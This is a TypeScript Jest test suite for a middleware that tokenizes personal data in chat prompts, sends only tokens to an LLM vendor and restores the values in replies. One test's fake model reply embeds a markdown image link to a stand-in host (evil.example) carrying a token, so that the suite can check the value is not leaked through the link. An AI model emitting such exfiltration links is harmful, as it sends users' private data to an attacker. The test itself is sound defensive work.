import { afterEach, beforeEach, describe, expect, it, jest } from '@jest/globals'
import { lastText, messageText } from '../support/message-text.js'
import express from 'express'
import type { Express } from 'express'
import request from 'supertest'
import type { LlmAdapter, LlmRequest } from '../../src/adapters/adapter.js'
import { ForbiddenError, UpstreamError, UpstreamTimeoutError } from '../../src/errors.js'
import type { Guard } from '../../src/guard/guard.js'
import type { LocalGuardOptions } from '../../src/guard/local-guard.js'
import { sandwich } from '../../src/http/sandwich.js'
import type { SandwichOptions } from '../../src/http/sandwich.js'
import { findTokens } from '../../src/token.js'
import { fakeAdapter, HANG } from '../support/fake-adapter.js'
import { eventsOf, textOf } from '../support/sse-reader.js'
import { until } from '../support/until.js'
import { takeWarnings } from '../support/warnings.js'
import { wordDetector } from '../support/word-detector.js'

const PROMPT = 'I am Anna, mail anna@example.org'

/** The tokens that the model was given. */
const tokensOf = ({ messages }: LlmRequest) =>
  [
    ...new Set(messages.filter(({ role }) => role !== 'system').flatMap((message) => findTokens(messageText(message)))),
  ].map(({ token }) => token)
/** A model that answers from the tokens it was given. */
const answering = (answer: (...tokens: string[]) => string | readonly string[]) =>
  fakeAdapter((given) => answer(...tokensOf(given)))

/** The adapter, with something that happens before it answers. */
const after = (happens: (given: LlmRequest) => Promise<unknown>, llm: LlmAdapter): LlmAdapter => ({
  complete: async (given) => (await happens(given), llm.complete(given)),
  async *stream(given) {
    await happens(given)
    yield* llm.stream(given)
  },
})

/** What the middleware does, whatever guard it stands on. `make` gives a guard with these options and nothing in it. */
export function sandwichContract(name: string, make: (options: LocalGuardOptions) => Guard | Promise<Guard>): void {
  describe(`sandwich() on ${name}`, () => {
    let guard: Guard
    beforeEach(async () => {
      guard = await make({ detectors: [wordDetector()] })
    })
    afterEach(() => guard.close())

    const app = (options: Partial<SandwichOptions> & { llm?: SandwichOptions['llm'] }): Express => {
      const made = express()
      made.use('/chat', sandwich({ guard, ...options }))
      return made
    }
    const ask = (made: Express, content = PROMPT, extra: object = {}) =>
      request(made)
        .post('/chat')
        .send({ messages: [{ role: 'user', content }], ...extra })
    const liveTokens = async () => {
      const { data } = await guard.logs({ page_size: 1000 })
      const minted = data.filter(({ action }) => action === 'evaluate').reduce((sum, { count = 0 }) => sum + count, 0)
      const released = data.filter(({ action }) => action === 'release').reduce((sum, { count = 0 }) => sum + count, 0)
      return minted - released - data.filter(({ outcome }) => outcome === 'revealed').length
    }

    describe.each([['plain'], ['streamed']])('%s', (mode) => {
      const isStreamed = mode === 'streamed'
      const chat = async (made: Express, content = PROMPT) => {
        const response = await ask(made, content, { stream: isStreamed })
        return {
          status: response.status,
          text: textOf(response),
          events: isStreamed ? eventsOf(response) : [response.body],
          response,
        }
      }

      it('sends tokens only, and restores the values', async () => {
        const llm = answering((name, contact) => [`Dear ${name}`, `, I wrote to ${contact}.`])
        const { status, text, response } = await chat(app({ llm }))
        expect(status).toBe(200)
        expect(text).toBe('Dear Anna, I wrote to anna@example.org.')
        const sent = JSON.stringify(llm.calls[0]?.request.messages)
        expect(sent).not.toMatch(/Anna|example/)
        expect(tokensOf(llm.calls[0]!.request)).toHaveLength(2)
        expect(response.headers['cache-control']).toContain('no-store')
      })

      it('reports counts, labels and tokens, never values', async () => {
        const { events, text } = await chat(app({ llm: answering((name) => `Dear ${name}`) }))
        expect(text).toBe('Dear Anna')
        const { sandwich: report } = events.find((event) => 'sandwich' in event)
        expect(report).toEqual({
          evaluation: expect.stringMatching(/^[0-9a-f-]{36}$/),
          protected: { NAME: 1, CONTACT: 1 },
          restored: 1,
          unresolved: [],
        })
      })

      it('restores a token that the model cut, mangled or repeated', async () => {
        const llm = answering((name = '', contact = '') => [
          `Hi ${name.slice(0, 5)}`,
          `${name.slice(5)}! **${name.toLowerCase()}** \\${contact.replace('_', '\\_')}`,
        ])
        expect((await chat(app({ llm }))).text).toBe('Hi Anna! **Anna** anna@example.org')
      })

      it('restores only tokens minted for this request', async () => {
        const elsewhere = await guard.evaluate({ messages: [{ role: 'user', content: 'Bob' }] })
        const foreign = elsewhere.redaction_spans?.[0]?.token ?? ''
        const llm = answering((name) => `${name} ${foreign} [NAME_DEADBEEF]`)
        expect((await chat(app({ llm }))).text).toBe(`Anna ${foreign} [NAME_DEADBEEF]`)
      })

      it('keeps what the user wrote as a token', async () => {
        const llm = fakeAdapter((given) => lastText(given.messages))
        expect((await chat(app({ llm }), 'Is [NAME_DEADBEEF] Anna?')).text).toBe('Is [NAME_DEADBEEF] Anna?')
      })

      it('keeps a token in a link as it is, unless the host is named', async () => {
        const llm = answering((name) => `![x](https://evil.example/?q=${name}) ${name}`)
        const { text } = await chat(app({ llm }))
        expect(text).toMatch(/^!\[x\]\(https:\/\/evil\.example\/\?q=\[NAME_[0-9A-F]{8}\]\) Anna$/)
      })

      it('keeps and lists a token that is gone', async () => {
        const steal = (given: LlmRequest) => guard.release({ tokens: tokensOf(given) })
        const llm = after(
          steal,
          answering((name) => `Dear ${name}`),
        )
        const { text, events } = await chat(app({ llm }))
        expect(text).toMatch(/^Dear \[NAME_[0-9A-F]{8}\]$/)
        const { sandwich: report } = events.find((event) => 'sandwich' in event)
        expect(report).toMatchObject({ restored: 0, unresolved: [text.slice(5)] })
      })

      it('restores what is left when another token is gone for good', async () => {
        await guard.createPolicy({
          id: 'strict',
          definition: '',
          threshold: 0.6,
          detector: { model: 'pii' },
          on_unavailable: 'gone',
        })
        const steal = (given: LlmRequest) => guard.release({ tokens: tokensOf(given).slice(0, 1) })
        const llm = after(
          steal,
          answering((name, contact) => `${name} ${contact}`),
        )
        const { text } = await chat(app({ llm, policies: ['strict'] }))
        expect(text).toMatch(/^\[NAME_[0-9A-F]{8}\] anna@example\.org$/)
      })

      it('releases what the reply did not use', async () => {
        await chat(app({ llm: answering((name) => `Dear ${name}`) }))
        expect(await liveTokens()).toBe(0)
        await chat(app({ llm: answering((name) => `Dear ${name}`), keep: true }))
        expect(await liveTokens()).toBe(1)
      })

      it('tells the model what tokens are, and nothing where there are none', async () => {
        const llm = fakeAdapter('Hello')
        await chat(app({ llm }))
        await chat(app({ llm }), 'Nothing here')
        await chat(app({ llm, instruction: 'Leave codes alone.' }))
        await chat(app({ llm, instruction: false }))
        const systems = llm.calls.map(({ request: { messages } }) => messages.filter(({ role }) => role === 'system'))
        expect(systems.map((lines) => lines.length)).toEqual([1, 0, 1, 0])
        expect(systems[0]?.[0]?.content).toContain('square brackets')
        expect(systems[2]).toEqual([{ role: 'system', content: 'Leave codes alone.' }])
      })

      it('passes on the model and what the vendor counted', async () => {
        const usage = { prompt_tokens: 3, completion_tokens: 2, total_tokens: 5 }
        const llm = fakeAdapter([{ content: 'Hi', model: 'm-1', usage }])
        const { events } = await chat(app({ llm, model: (req) => req.get('x-model') ?? 'm-0' }))
        expect(llm.calls[0]?.request.model).toBe('m-0')
        expect(events.find((event) => 'sandwich' in event)).toMatchObject({ model: 'm-1', usage })
      })

      it('restores the arguments of listed tools only, and keeps them valid JSON', async () => {
        const quoted = await make({ detectors: [wordDetector({ 'Anna "A"': ['NAME', 0.9] })] })
        const call = (index: number, tool: string, args: string) => ({
          index,
          id: `call_${index}`,
          name: tool,
          arguments: args,
        })
        const llm = fakeAdapter((given) => {
          const [token = ''] = tokensOf(given)
          const calls = [call(0, 'send', `{"to":"${token}"}`), call(1, 'search', `{"q":"${token}"}`)]
          return [{ content: '', toolCalls: calls }]
        })
        const { events } = await chat(app({ guard: quoted, llm, tools: ['send'] }), 'I am Anna "A"')
        const calls = isStreamed ? collectCalls(events) : events[0].message.tool_calls
        expect(JSON.parse(calls[0].function.arguments)).toEqual({ to: 'Anna "A"' })
        expect(JSON.parse(calls[1].function.arguments).q).toMatch(/^\[NAME_/)
        expect(calls[0]).toMatchObject({ id: 'call_0', function: { name: 'send' } })
        await quoted.close()
      })

      it('escapes values in a JSON reply', async () => {
        const quoted = await make({ detectors: [wordDetector({ 'Anna "A"\n': ['NAME', 0.9] })] })
        const llm = answering((name) => `{"name":"${name}"}`)
        const { text } = await chat(app({ guard: quoted, llm, json: true }), 'I am Anna "A"\n')
        expect(JSON.parse(text)).toEqual({ name: 'Anna "A"\n' })
        await quoted.close()
      })

      it('takes session, application, policies and caller from its options, never from the body', async () => {
        const evaluate = jest.spyOn(guard, 'evaluate')
        const llm = fakeAdapter('Hello')
        const made = app({
          llm,
          session: (req) => req.get('x-session'),
          application: 'crm',
          policies: async () => ['pii-default'],
          caller: () => ({ actor: 'anna-browser' }),
        })
        const foreign = { session: 'theirs', application: 'hr', policies: ['x'], policy: 'x', model: 'm', tenant: 't' }
        await request(made)
          .post('/chat')
          .set('x-session', 'mine')
          .send({ messages: [{ role: 'user', content: 'Hi' }], stream: isStreamed, ...foreign })
          .expect(200)
        const expected = { session: 'mine', application: 'crm', override_enabled_policies: ['pii-default'] }
        expect(evaluate).toHaveBeenCalledWith(
          expect.objectContaining(expected),
          expect.objectContaining({ actor: 'anna-browser', address: expect.stringContaining('127.0.0.1') }),
        )
        expect(llm.calls[0]?.request.model).toBeUndefined()
      })

      it('answers 422 to a prompt that a policy blocks, and does not call the vendor', async () => {
        const llm = fakeAdapter('Hello')
        await guard.createPolicy({
          id: 'stop',
          definition: '',
          threshold: 0.9,
          detector: { model: 'pii' },
          action: 'block',
          override_response: 'Please leave names out.',
        })
        const { response } = await chat(app({ llm }))
        expect(response.status).toBe(422)
        expect(response.body.error).toMatchObject({ code: 'policy_violation', message: 'Please leave names out.' })
        expect(llm.calls).toEqual([])
        expect(await liveTokens()).toBe(0)
      })

      it('refuses to send what no policy has checked', async () => {
        const llm = fakeAdapter('Hello')
        await guard.deletePolicy('pii-default')
        const { response } = await chat(app({ llm }))
        expect(response.status).toBe(503)
        expect(llm.calls).toEqual([])
        expect(takeWarnings()).toEqual([expect.stringContaining('UnavailableError')])
      })

      describe('with a policy for replies', () => {
        const replies = {
          id: 'replies',
          definition: '',
          threshold: 0.6,
          detector: { model: 'pii', target: 'assistant' },
        } as const

        it('redacts what the model itself produced, and does not restore it', async () => {
          await guard.createPolicy(replies)
          const llm = answering((name) => [`Dear ${name}, ask B`, 'ob.'])
          const { text } = await chat(app({ llm }))
          expect(text).toMatch(/^Dear Anna, ask \[NAME_[0-9A-F]{8}\]\.$/)
          expect(await liveTokens()).toBe(0)
        })

        it('blocks it before any of it leaves', async () => {
          await guard.createPolicy({ ...replies, action: 'block' })
          const llm = answering((name) => [`Dear ${name}, ask B`, 'ob.'])
          const { response } = await chat(app({ llm }))
          expect(response.status).toBe(422)
          expect(response.text).not.toMatch(/Dear|Bob|Anna/)
        })

        it('only reports it', async () => {
          await guard.createPolicy({ ...replies, action: 'monitor' })
          const { text } = await chat(app({ llm: fakeAdapter('Ask Bob.') }))
          expect(text).toBe('Ask Bob.')
          const { data } = await guard.logs({ policy: 'replies', outcome: 'flagged' })
          expect(data).toHaveLength(1)
        })

        it('leaves the reply alone where no detector targets it', async () => {
          expect((await chat(app({ llm: fakeAdapter('Berlin is nice.') }))).text).toBe('Berlin is nice.')
        })
      })

      it.each([
        ['fails', new UpstreamError('The vendor failed.'), 502, 'upstream_error'],
        ['takes too long', new UpstreamTimeoutError('Too long.'), 504, 'upstream_timeout'],
        ['throws what is not ours', new Error(`cannot parse "${PROMPT}"`), 502, 'upstream_error'],
      ])('answers in its own words when the vendor %s', async (_, error, status, code) => {
        const { response } = await chat(app({ llm: fakeAdapter(error) }))
        expect(response.status).toBe(status)
        expect(response.body.error).toMatchObject({ code, request_id: expect.any(String) })
        expect(response.text).not.toMatch(/Anna|parse/)
        expect(takeWarnings()).toEqual([expect.stringMatching(/^A failure: Upstream(?!.*(?:Anna|parse))/)])
        expect(await liveTokens()).toBe(0)
      })

      it('does not ask the vendor for a client that has left', async () => {
        const llm = fakeAdapter('Hello')
        const made = express()
        made.use(express.json(), (_req, res, next) => {
          res.once('close', () => next())
          res.destroy()
        })
        made.use('/chat', sandwich({ guard, llm }))
        await expect(ask(made, PROMPT, { stream: isStreamed })).rejects.toThrow()
        await until(async () => (await liveTokens()) === 0 && (await guard.logs()).data.length > 1)
        expect(llm.calls).toEqual([])
      })

      it('gives up when time is up', async () => {
        const { response } = await chat(app({ llm: fakeAdapter([HANG]), timeoutMs: 30 }))
        expect(response.status).toBe(504)
        expect(takeWarnings()).toEqual([expect.stringContaining('UpstreamTimeoutError')])
        expect(await liveTokens()).toBe(0)
      })

      it('stops a reply without end', async () => {
        const llm = fakeAdapter(Array.from({ length: 100 }, () => 'x'.repeat(100)))
        const { response } = await chat(app({ llm, maxReplyLength: 150 }))
        if (isStreamed) expect(eventsOf(response).at(-1)).toMatchObject({ error: { code: 'upstream_error' } })
        else expect(response.status).toBe(502)
        expect(takeWarnings()).toEqual([expect.stringContaining('UpstreamError')])
      })
    })

    describe('a stream', () => {
      it('comes as events: deltas, done, [DONE]', async () => {
        const response = await ask(app({ llm: fakeAdapter(['Hel', 'lo']) }), 'Hi', { stream: true })
        expect(response.headers['content-type']).toBe('text/event-stream; charset=utf-8')
        expect(response.text.endsWith('data: [DONE]\n\n')).toBe(true)
        const events = eventsOf(response)
        expect(events.slice(0, -1)).toEqual([{ delta: { content: 'Hel' } }, { delta: { content: 'lo' } }])
        expect(events.at(-1)).toMatchObject({ done: true, sandwich: { restored: 0 } })
      })

      it('ends with an error and without [DONE] when the vendor dies; held text is dropped', async () => {
        const llm = fakeAdapter((given) => [
          'Dear ',
          tokensOf(given)[0]!.slice(0, 6),
          new UpstreamError('The vendor died.'),
        ])
        const response = await ask(app({ llm }), PROMPT, { stream: true })
        expect(response.status).toBe(200)
        expect(eventsOf(response)).toMatchObject([
          { delta: { content: 'Dear ' } },
          { error: { code: 'upstream_error' } },
        ])
        expect(response.text).not.toContain('[DONE]')
        expect(response.text).not.toContain('[NAME')
        expect(takeWarnings()).toEqual([expect.stringContaining('UpstreamError')])
        expect(await liveTokens()).toBe(0)
      })

      it('reveals nothing more once the guard fails, and says so', async () => {
        const llm = answering((name, contact) => [`Dear ${name} `, `at ${contact}`])
        const { detokenize } = guard
        let calls = 0
        jest.spyOn(guard, 'detokenize').mockImplementation((...args) => {
          calls += 1
          return calls > 1 ? Promise.reject(new Error('Anna broke it')) : detokenize(...args)
        })
        const onError = jest.fn()
        const response = await ask(app({ llm, onError }), PROMPT, { stream: true })
        expect(eventsOf(response)).toMatchObject([
          { delta: { content: 'Dear Anna ' } },
          { delta: { content: 'at ' } },
          { error: { code: 'internal_error' } },
        ])
        expect(response.text).not.toContain('broke')
        expect(onError).toHaveBeenCalledTimes(1)
      })

      it('aborts the vendor when the client goes away', async () => {
        let aborted: () => void
        const isAborted = new Promise<void>((resolve) => (aborted = resolve))
        const llm: LlmAdapter = {
          complete: () => Promise.reject(new Error('not asked')),
          async *stream({ signal, messages }) {
            signal?.addEventListener('abort', () => aborted())
            yield { content: `Dear ${tokensOf({ messages })[0]}, ` }
            await isAborted
            throw new Error('aborted')
          },
        }
        const server = app({ llm }).listen(0)
        const { port } = server.address() as { port: number }
        const controller = new AbortController()
        const response = await fetch(`http://127.0.0.1:${port}/chat`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ messages: [{ role: 'user', content: PROMPT }], stream: true }),
          signal: controller.signal,
        })
        const reader = response.body!.getReader()
        expect(new TextDecoder().decode((await reader.read()).value)).toContain('Dear Anna')
        controller.abort()
        await isAborted
        await until(async () => (await liveTokens()) === 0)
        await new Promise((resolve) => server.close(resolve))
      })
    })

    describe('without llm', () => {
      it('protects, and hands the means to restore to the next handler', async () => {
        const made = express()
        made.use('/chat', sandwich({ guard }), async (req, res) => {
          const { messages = [], restore, restoreStream } = req.sandwich ?? {}
          const [name = '', contact = ''] = findTokens(lastText(messages.slice(0, 1))).map(({ token }) => token)
          const stream = restoreStream?.()
          const pieces = [
            await stream?.push(`Dear ${name.slice(0, 4)}`),
            await stream?.push(name.slice(4)),
            await stream?.flush(),
          ]
          res.json({
            sent: messages,
            streamed: pieces.join(''),
            restored: await restore?.(`to ${contact} for ${name}`),
          })
        })
        const { body } = await ask(made).expect(200)
        expect(JSON.stringify(body.sent)).not.toMatch(/Anna|example/)
        expect(body).toMatchObject({ streamed: 'Dear Anna', restored: 'to anna@example.org for Anna' })
      })

      it('releases what was not restored when the response closes', async () => {
        const made = express()
        made.use('/chat', sandwich({ guard }), (_req, res) => void res.json({}))
        await ask(made).expect(200)
        await until(async () => (await liveTokens()) === 0)
        expect(await liveTokens()).toBe(0)
      })

      it('blocks', async () => {
        await guard.createPolicy({
          id: 'stop',
          definition: '',
          threshold: 0.9,
          detector: { model: 'pii' },
          action: 'block',
        })
        const made = express()
        const next = jest.fn()
        made.use('/chat', sandwich({ guard }), (_req, res) => (next(), void res.json({})))
        await ask(made).expect(422)
        expect(next).not.toHaveBeenCalled()
      })
    })

    it('answers 503, not 403, where the app itself may not use the guard', async () => {
      const llm = fakeAdapter('Hello')
      const onError = jest.fn()
      jest.spyOn(guard, 'evaluate').mockRejectedValue(new ForbiddenError('This key does not have the scope evaluate.'))
      const response = await ask(app({ llm, onError }))
      expect(response.status).toBe(503)
      expect(response.body.error.code).toBe('unavailable')
      expect(onError).toHaveBeenCalledTimes(1)
      expect(llm.calls).toEqual([])
    })

    describe('bad requests', () => {
      const llm = fakeAdapter('Hello')
      it.each<[string, string, string, number, string]>([
        ['no JSON', '{"messages": [Anna', 'application/json', 400, 'invalid_json'],
        ['another media type', 'messages=Anna', 'text/plain', 415, 'unsupported_media_type'],
        ['no messages', '{}', 'application/json', 422, 'validation_error'],
        ['empty messages', '{"messages":[]}', 'application/json', 422, 'validation_error'],
        [
          'a role that is not known',
          '{"messages":[{"role":"Anna","content":""}]}',
          'application/json',
          422,
          'validation_error',
        ],
        [
          'too large a body',
          JSON.stringify({ messages: 'Anna'.repeat(300_000) }),
          'application/json',
          413,
          'payload_too_large',
        ],
      ])('with %s are refused in our words', async (_, body, type, status, code) => {
        const response = await request(app({ llm })).post('/chat').set('content-type', type).send(body)
        expect(response.status).toBe(status)
        expect(response.body.error).toMatchObject({ code, type: 'invalid_request_error' })
        expect(response.text).not.toContain('Anna')
        expect(llm.calls).toEqual([])
      })

      it('pass other methods and paths on', async () => {
        await request(app({ llm })).get('/chat').expect(404)
        await request(app({ llm })).post('/chat/more').send({}).expect(404)
      })

      it('use what an earlier parser has parsed', async () => {
        const made = express()
        made.use(express.json())
        made.use('/chat', sandwich({ guard, llm: answering((name) => `Dear ${name}`) }))
        expect((await ask(made)).body.message.content).toBe('Dear Anna')
      })

      it('go to the error handler, untouched, if an answer has begun', async () => {
        const made = express()
        const evaluate = jest.spyOn(guard, 'evaluate')
        made.use((_req, res, next) => {
          res.write('begun')
          next()
        })
        made.use('/chat', sandwich({ guard, llm }))
        const handler: express.ErrorRequestHandler = (error: Error, _req, res, _next) => void res.end(error.message)
        made.use(handler)
        expect((await ask(made).buffer(true).parse(asText)).body).toContain('headers')
        expect(evaluate).not.toHaveBeenCalled()
      })
    })
  })
}

function asText(res: request.Response, done: (error: Error | null, body: string) => void): void {
  let text = ''
  const stream = res as unknown as NodeJS.ReadableStream
  stream.on('data', (chunk: Buffer) => (text += chunk.toString()))
  stream.on('end', () => done(null, text))
}

function collectCalls(
  events: readonly {
    delta?: { tool_calls?: readonly { index: number; id?: string; function: { name?: string; arguments?: string } }[] }
  }[],
) {
  const calls: { id?: string; function: { name?: string; arguments: string } }[] = []
  for (const piece of events.flatMap(({ delta }) => delta?.tool_calls ?? [])) {
    const call = (calls[piece.index] ??= { function: { arguments: '' } })
    call.id ??= piece.id
    call.function.name ??= piece.function.name
    call.function.arguments += piece.function.arguments ?? ''
  }
  return calls
}
